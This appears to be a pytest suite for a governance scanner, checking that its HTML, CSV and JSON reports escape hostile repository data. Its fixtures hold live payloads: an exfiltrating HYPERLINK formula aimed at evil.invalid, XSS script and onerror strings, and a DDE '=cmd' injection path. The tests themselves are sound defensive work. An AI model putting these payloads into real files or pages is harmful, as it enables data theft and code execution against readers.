"""Reports rendered from a real scan of real git repositories, some of them hostile.

The scan uses a pack of three policies so the numbers are known: the bundled
readme-present, and two test policies, `echo-verdict` and `second-verdict`, whose check
returns whatever outcome, message and location a file of the repository asks for, so
repository content reaches every report the way a real check's message would.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

from governance.demo import make_repo
from governance.models import Finding, Location, Outcome, Severity, Waiver
from governance.render import write_reports
from governance.render.html import render_html
from governance.render.summary import compliance_of
from governance.render.tabular import (
    CSV_COLUMNS,
    FINDING_KEYS,
    load_findings,
    neutralize,
    write_csv,
)
from governance.scan import ScanRequest, run_scan

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'
XSS = "<script>alert(1)</script>"
HOSTILE_MESSAGE = f"{FORMULA} {XSS} \"double\" 'single' & </textarea><img src=x onerror=alert(2)>"
HOSTILE_REPO = "<script>alert(1)"  # a folder name cannot hold "/", so no closing tag here
HOSTILE_README = "README.<img src=x onerror=alert(3)>.md"
HOSTILE_PATH = '=cmd|" /C calc"!A0 <script>alert(4)<\\script>.yml'
WAIVER_OWNER = "@evil =cmd"
WAIVER_REASON = "<script>alert(5)</script> vendored mirror"

_CHECK = '''
from governance.checks import CheckContext, Result
from governance.errors import Unsupported
from governance.models import Location, Outcome


def check(ctx: CheckContext) -> Result:
    outcome, message, *where = ctx.files.read_text(ctx.options["file"]).split("\\n")
    if outcome == "error":
        raise RuntimeError(message)
    if outcome == "not_available":
        raise Unsupported(message)
    locations = (Location(where[0], int(where[1]), "the payload"),) if where and where[0] else ()
    return Result(Outcome(outcome), message, locations)
'''
_POLICIES = {
    "echo-verdict": """\
id: echo-verdict
title: Echo <b>verdict</b>
severity: medium
rationale: Test policy that echoes a repository's verdict.txt.
remediation: Write "pass" in verdict.txt <em>please</em>.
options: {file: verdict.txt}
""",
    "second-verdict": """\
id: second-verdict
title: Second verdict
severity: low
rationale: Test policy that echoes a repository's second.txt.
remediation: Write "pass" in second.txt.
options: {file: second.txt}
""",
}
_PACK = """\
id: render-test
defaults: false
policies:
  readme-present: {}
  echo-verdict: {severity: high}
  second-verdict: {}
"""


def _verdict(outcome: str, message: str, path: str = "", line: int = 0) -> str:
    return f"{outcome}\n{message}\n{path}\n{line}" if path else f"{outcome}\n{message}"


REPOSITORIES: dict[str, dict[str, str]] = {
    # three passes
    "alpha": {"README.md": "# a\n", "verdict.txt": _verdict("pass", "ok"),
              "second.txt": _verdict("pass", "fine", "second.txt", 1)},
    # README passes at a hostile path; the verdicts fail, one with a hostile message
    HOSTILE_REPO: {
        HOSTILE_README: "# hostile\n",
        HOSTILE_PATH: "x: 1\n",
        "verdict.txt": _verdict("fail", HOSTILE_MESSAGE, HOSTILE_PATH, 3),
        "second.txt": _verdict("fail", "-1 is not a verdict"),
    },
    # no README (waived by the config), second passes, the verdict does not apply
    "beta": {"verdict.txt": _verdict("not_applicable", "nothing here"),
             "second.txt": _verdict("pass", "fine")},
    # README passes, second fails, the verdict's check crashes
    "gamma": {"README.md": "# g\n", "verdict.txt": _verdict("error", "boom"),
              "second.txt": _verdict("fail", "not fine")},
    # README and second pass, the verdict cannot be known
    "delta": {"README.md": "# d\n", "verdict.txt": _verdict("not_available", "no token"),
              "second.txt": _verdict("pass", "fine")},
}
POLICIES = ("echo-verdict", "readme-present", "second-verdict")


@dataclass
class Reports:
    folder: Path
    meta: dict[str, object]

    @property
    def html(self) -> str:
        return (self.folder / "report.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Reports:
    root = tmp_path_factory.mktemp("render")
    org = root / "acme"
    for name, files in REPOSITORIES.items():
        make_repo(org / name, files)
    extra = root / "extra"
    for policy_id, definition in _POLICIES.items():
        (extra / policy_id).mkdir(parents=True)
        (extra / policy_id / "policy.yml").write_text(definition, encoding="utf-8")
        (extra / policy_id / "check.py").write_text(_CHECK, encoding="utf-8")
    (extra / "packs").mkdir()
    (extra / "packs" / "render-test.yml").write_text(_PACK, encoding="utf-8")
    config = root / "governance.yml"
    config.write_text(
        "pack: render-test\npolicy_paths: [extra]\nwaivers:\n"
        f"  - repository: beta\n    policy: readme-present\n    owner: {json.dumps(WAIVER_OWNER)}\n"
        f"    reason: {json.dumps(WAIVER_REASON)}\n    expires: 2099-12-31\n",
        encoding="utf-8",
    )
    out = root / "out"
    outcome = run_scan(ScanRequest(source=f"local:{org}", config_path=config), out)
    write_reports(outcome.spool, outcome.meta, out)
    return Reports(out, dict(outcome.meta))


# --- HTML -------------------------------------------------------------------------------


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    text: list[str] = field(default_factory=list)
    children: list[Node] = field(default_factory=list)

    def all_text(self) -> str:
        return "".join(self.text) + "".join(c.all_text() for c in self.children)

    def walk(self) -> list[Node]:
        found = [self]
        for child in self.children:
            found.extend(child.walk())
        return found

    def find(self, tag: str, **attrs: str) -> list[Node]:
        return [n for n in self.walk()
                if n.tag == tag and all(n.attrs.get(k) == v for k, v in attrs.items())]


_VOID = {"meta", "link", "br", "img", "input", "hr", "wbr", "col", "source", "area", "base"}


class TreeBuilder(HTMLParser):
    """A small DOM from the stdlib parser, to assert structure instead of substrings."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]
        self.start_tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, {k: v or "" for k, v in attrs})
        self.start_tags.append((tag, node.attrs))
        self.stack[-1].children.append(node)
        if tag not in _VOID:
            self.stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].text.append(data)


def parse(html: str) -> TreeBuilder:
    builder = TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder


def test_html_renders_hostile_data_as_text_only(reports: Reports) -> None:
    html = reports.html
    tree = parse(html)
    # The only elements are the report's own: one script (the static filter), no <img>,
    # no event handler attribute, no javascript: link.
    scripts = tree.root.find("script")
    assert len(scripts) == 1
    assert "alert" not in scripts[0].all_text()
    assert tree.root.find("img") == []
    for tag, attrs in tree.start_tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not attrs.get("href", "").lower().startswith("javascript"), (tag, attrs)
    for raw in ("<script>alert", "<img src=x", "</textarea><img"):
        assert raw not in html
    # ... and the hostile values are shown, verbatim, as text.
    text = tree.root.all_text()
    for value in (HOSTILE_MESSAGE, f"acme/{HOSTILE_REPO}", HOSTILE_README, WAIVER_REASON):
        assert value in text
    assert "Echo <b>verdict</b>" in text  # policy.yml text is escaped too
    assert not any(n.all_text() == "verdict" for n in tree.root.find("b"))


def test_html_is_self_contained_and_its_csp_allows_only_its_own_blocks(
        reports: Reports) -> None:
    import base64
    import hashlib

    tree = parse(reports.html)
    for tag, attrs in tree.start_tags:  # nothing is loaded: no src, no <link>, no frames
        assert tag not in ("link", "iframe", "object", "embed", "base")
        assert "src" not in attrs and "srcset" not in attrs, (tag, attrs)
        if "href" in attrs:  # in-page anchors, and http(s) links from policy prose only
            assert tag == "a" and attrs["href"].startswith(("#", "https://", "http://"))
            assert "evil.invalid" not in attrs["href"]  # scan data is never linked
    (policy,) = [n for n in tree.root.find("meta")
                 if n.attrs.get("http-equiv") == "Content-Security-Policy"]
    csp = policy.attrs["content"]
    assert "default-src 'none'" in csp
    for tag in ("script", "style"):
        (block,) = tree.root.find(tag)
        digest = hashlib.sha256(block.all_text().encode("utf-8")).digest()
        assert f"'sha256-{base64.b64encode(digest).decode()}'" in csp, tag
    assert "unsafe-inline" not in csp
    assert not [a for _, a in tree.start_tags if "style" in a]  # CSP would block them


def test_matrix_has_one_linked_cell_per_repository_and_policy(reports: Reports) -> None:
    tree = parse(reports.html)
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    headings = [th.attrs.get("title", "") for th in matrix.find("thead")[0].find("th")][1:]
    columns = [th.all_text() for th in matrix.find("thead")[0].find("th")][1:]
    assert sorted(columns) == sorted(POLICIES)
    assert any(h.startswith("Echo <b>verdict</b>") for h in headings)
    ids = {n.attrs["id"]: n for n in tree.root.walk() if "id" in n.attrs}
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    messages = {(f["repository"], f["policy"]): f["message"] for f in document["findings"]}
    rows = matrix.find("tbody")[0].find("tr")
    names = [row.find("th")[0].all_text() for row in rows]
    assert sorted(names) == sorted(f"acme/{name}" for name in REPOSITORIES)
    seen: set[tuple[str, str]] = set()
    for row, name in zip(rows, names, strict=True):
        cells = row.find("td")
        assert len(cells) == len(POLICIES)
        for policy, cell in zip(columns, cells, strict=True):
            (link,) = cell.find("a")
            target = ids[link.attrs["href"].removeprefix("#")]  # the finding it links to
            assert target.attrs["data-p"] == policy
            section = next(s for s in tree.root.find("section")
                           if s.attrs.get("class") == "repo" and target in s.walk())
            assert section.find("span", **{"class": "rn"})[0].all_text() == name
            outcome = target.attrs["data-o"]
            assert cell.attrs["class"] == {
                "pass": "o-pass", "fail": "o-fail", "waived": "o-wv", "error": "o-err",
                "not_available": "o-nv", "not_applicable": "o-na"}[outcome]
            assert link.attrs["aria-label"] == outcome.replace("_", " ")
            assert link.attrs["title"] == messages[(name, policy)]
            seen.add((name, policy))
    assert len(seen) == len(REPOSITORIES) * len(POLICIES)
    hostile = rows[names.index(f"acme/{HOSTILE_REPO}")]
    tips = [a.attrs["title"] for a in hostile.find("a") if a.attrs.get("title")]
    assert HOSTILE_MESSAGE in tips


def test_html_compliance_numbers_for_the_known_scan(reports: Reports) -> None:
    tree = parse(reports.html)
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "75.0%"  # 8 pass + 1 waived of 12 decided
    (repositories,) = [n for n in tree.root.walk() if n.attrs.get("id") == "repositories"]
    assert repositories.all_text() == "5"
    policy_compliance = {
        row.attrs["id"].removeprefix("p-"): row.find("td")[2].all_text().split()[0]
        for row in tree.root.find("tr") if row.attrs.get("id", "").startswith("p-")
    }
    assert policy_compliance == {"readme-present": "100.0%", "second-verdict": "60.0%",
                                 "echo-verdict": "50.0%"}
    # Policies worst first, and the matrix columns in the same order.
    assert list(policy_compliance) == ["echo-verdict", "second-verdict", "readme-present"]
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    assert [th.all_text() for th in matrix.find("th")[1:4]] == list(policy_compliance)
    (section,) = [n for n in tree.root.walk() if n.attrs.get("id") == "repositories-table"]
    rows = section.find("tbody")[0].find("tr")
    table = [(r.find("th")[0].all_text(), r.find("td")[0].all_text().strip(),
              r.find("td")[1].all_text(), r.find("td")[2].all_text().strip()) for r in rows]
    assert table == [
        (f"acme/{HOSTILE_REPO}", "33.3%", "2", "high"),
        ("acme/gamma", "50.0%", "1", "low"),
        ("acme/alpha", "100.0%", "0", "\u2014"),
        ("acme/beta", "100.0%", "0", "\u2014"),
        ("acme/delta", "100.0%", "0", "\u2014"),
    ]


def test_html_findings_show_locations_remediation_and_waivers(reports: Reports) -> None:
    tree = parse(reports.html)
    findings = {(n.attrs["data-p"], n.attrs["data-o"]): n for n in tree.root.find("li")
                if "data-o" in n.attrs}
    failing = findings[("echo-verdict", "fail")]
    assert failing.find("code")[0].all_text() == HOSTILE_PATH + ":3"
    (fix,) = failing.find("p", **{"class": "fix"})
    assert 'Write "pass" in verdict.txt <em>please</em>.' in fix.all_text()
    assert findings[("readme-present", "pass")].find("p") == []  # no remediation on passes
    (waiver,) = findings[("readme-present", "waived")].find("p", **{"class": "wvr"})
    text = waiver.all_text()
    assert WAIVER_OWNER in text and WAIVER_REASON in text and "2099-12-31" in text
    (waivers,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "waivers"]
    (row,) = waivers.find("tbody")[0].find("tr")
    assert [c.all_text() for c in row.find("td")] == [
        "README present", WAIVER_OWNER, "2099-12-31", WAIVER_REASON]
    waived_id = findings[("readme-present", "waived")].attrs["id"]
    assert row.find("a")[0].attrs["href"] == f"#{waived_id}"
    assert "boom" in findings[("echo-verdict", "error")].all_text()
    # Inside a repository, what needs attention comes first.
    (section,) = [s for s in tree.root.find("section") if s.attrs.get("class") == "repo"
                  and s.find("span", **{"class": "rn"})[0].all_text() == "acme/gamma"]
    order = [li.attrs["data-o"] for li in section.find("li") if "data-o" in li.attrs]
    assert order == ["fail", "error", "pass"]


# --- CSV --------------------------------------------------------------------------------


def test_csv_keeps_the_column_order_and_neutralizes_formulas(reports: Reports) -> None:
    text = (reports.folder / "findings.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert len(rows) == len(document["findings"]) == len(REPOSITORIES) * len(POLICIES)
    for row, finding in zip(rows, document["findings"], strict=True):
        for column in ("repository", "policy", "outcome", "message", "path", "remediation"):
            value, original = row[column], finding[column] or ""
            assert not value.lstrip().startswith(("=", "+", "-", "@")), (column, value)
            if original.startswith(("=", "+", "-", "@")):
                assert value == "'" + original
            else:
                assert value == original  # normal text is left alone
        assert row["line"] == ("" if finding["line"] is None else str(finding["line"]))
    (hostile,) = [r for r in rows if r["policy"] == "echo-verdict" and r["outcome"] == "fail"]
    assert hostile["message"] == "'" + HOSTILE_MESSAGE
    assert hostile["path"] == "'" + HOSTILE_PATH
    assert hostile["line"] == "3"
    assert hostile["repository"] == f"acme/{HOSTILE_REPO}"
    (minus,) = [r for r in rows if r["message"].endswith("is not a verdict")]
    assert minus["message"] == "'-1 is not a verdict"
    (waived,) = [r for r in rows if r["outcome"] == "waived"]
    assert waived["waiver_owner"] == "'" + WAIVER_OWNER and waived["waiver_expires"] == "2099-12-31"


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0 @x",
    "\tplain", "\rplain", "\nplain",
    "\u3000=1", "\uff1d1+1", "-",
])
def test_neutralize_prefixes_formula_starts(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", [
    "no README found", "a = b", "README.md", "'quoted", "1+1", "", "   ", "x@y.z", 12, None,
])
def test_neutralize_leaves_other_values(value: object) -> None:
    assert neutralize(value) == value


def test_csv_line_column_stays_numeric(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    finding = Finding("acme/x", "p", Outcome.FAIL, Severity.LOW, "-5 is not a line",
                      (Location("-x.yml", 7),))
    spool.write_text(json.dumps(finding.as_dict()) + "\n", encoding="utf-8")
    write_csv(load_findings(spool), tmp_path / "findings.csv")
    (row,) = csv.DictReader((tmp_path / "findings.csv").read_text().splitlines())
    assert (row["line"], row["message"], row["path"]) == ("7", "'-5 is not a line", "'-x.yml")


# --- JSON -------------------------------------------------------------------------------


def test_json_round_trips_with_the_documented_keys(reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert list(document) == ["scan", "summary", "findings"]
    assert document["scan"] == json.loads(json.dumps(reports.meta, default=str))
    spooled = [json.loads(line) for line in
               (reports.folder / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert document["findings"] == spooled  # every finding exactly as the scan produced it
    assert all(list(f) == list(FINDING_KEYS) for f in document["findings"])
    summary = document["summary"]
    assert summary["compliance"] == 75.0
    assert summary["repositories"] == 5 and summary["findings"] == 15
    assert summary["failing_repositories"] == 2 and summary["decided"] == 12
    assert summary["outcomes"] == {"pass": 8, "fail": 3, "not_applicable": 1,
                                   "not_available": 1, "error": 1, "waived": 1}
    by_policy = {p["id"]: p["compliance"] for p in summary["by_policy"]}
    assert by_policy == {"echo-verdict": 50.0, "second-verdict": 60.0, "readme-present": 100.0}
    worst = summary["by_repository"][0]
    assert worst == {"repository": f"acme/{HOSTILE_REPO}", "compliance": 33.3, "failing": 2,
                     "worst_severity": "high", "outcomes": worst["outcomes"],
                     "failing_policies": ["echo-verdict", "second-verdict"]}
    hostile = next(f for f in document["findings"] if f["outcome"] == "fail"
                   and f["policy"] == "echo-verdict")
    assert hostile["message"] == HOSTILE_MESSAGE and hostile["line"] == 3


# --- numbers and scale ------------------------------------------------------------------


@pytest.mark.parametrize(("counts", "expected"), [
    ({"pass": 2, "fail": 1}, 66.7),
    ({"pass": 1, "waived": 1, "fail": 2, "error": 9, "not_applicable": 9}, 50.0),
    ({"pass": 9999, "fail": 1}, 99.9),  # never 100 with a failure
    ({"pass": 1, "fail": 9999}, 0.1),  # never 0 with a pass
    ({"not_applicable": 3, "error": 1}, None),
    ({}, None),
])
def test_compliance_counts_only_decided_findings(counts: dict[str, int],
                                                expected: float | None) -> None:
    assert compliance_of(counts) == expected


def _synthetic_spool(path: Path, repositories: int, policies: int) -> None:
    outcomes = list(Outcome)
    waiver = Waiver("*", "*", "legacy", "team", dt.date(2030, 1, 1))
    with path.open("w", encoding="utf-8") as out:
        for r in range(repositories):
            for p in range(policies):
                outcome = outcomes[(r * 7 + p * 3) % len(outcomes)]
                finding = Finding(
                    repository=f"acme/service-{r:04d}", policy=f"policy-{p:02d}",
                    title=f"Policy number {p}", outcome=outcome,
                    severity=list(Severity)[p % 5],
                    message=f"workflow .github/workflows/ci.yml uses an unpinned action ({r})",
                    locations=(Location(".github/workflows/ci.yml", 12),),
                    remediation="Pin every third-party action to a full commit SHA "
                    "and let Dependabot or Renovate keep the pins fresh." * 2
                    if outcome is Outcome.FAIL else "",
                    waiver=waiver if outcome is Outcome.WAIVED else None,
                )
                out.write(json.dumps(finding.as_dict()) + "\n")


def test_html_scales_to_a_thousand_repositories(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    _synthetic_spool(spool, 1000, 13)
    frame = load_findings(spool)
    html = render_html(frame, {"source": "github:acme", "repositories": 1000})
    assert len(html.encode("utf-8")) < 8_000_000
    assert len(re.findall(r'<tr data-r="', html)) == 2 * 1000  # repository table + matrix
    assert html.count('<li id="f') == 13_000


def test_an_empty_scan_renders_every_format(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    spool.write_text("", encoding="utf-8")
    meta = {"source": "local:/nowhere", "pack": "p", "repositories": 0,
            "policies": [{"id": "readme-present", "title": "README present", "severity": "low"}]}
    written = write_reports(spool, meta, tmp_path / "out")
    assert sorted(p.name for p in written) == ["findings.csv", "findings.json", "report.html"]
    document = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert document["findings"] == [] and document["summary"]["compliance"] is None
    assert document["summary"]["by_policy"][0]["id"] == "readme-present"
    tree = parse((tmp_path / "out" / "report.html").read_text())
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "n/a"
    assert (tmp_path / "out" / "findings.csv").read_text() == ",".join(CSV_COLUMNS) + "\n"


def test_policy_prose_makes_code_spans_and_only_http_links() -> None:
    from governance.render.html import Segment, prose

    assert prose("Add `permissions:` (see https://docs.example.com/x.) or javascript:alert(1)") == (
        Segment("text", "Add "), Segment("code", "permissions:"), Segment("text", " (see "),
        Segment("link", "https://docs.example.com/x"),
        Segment("text", ".) or javascript:alert(1)"),
    )
    assert prose("no `closing tick") == (Segment("text", "no `closing tick"),)
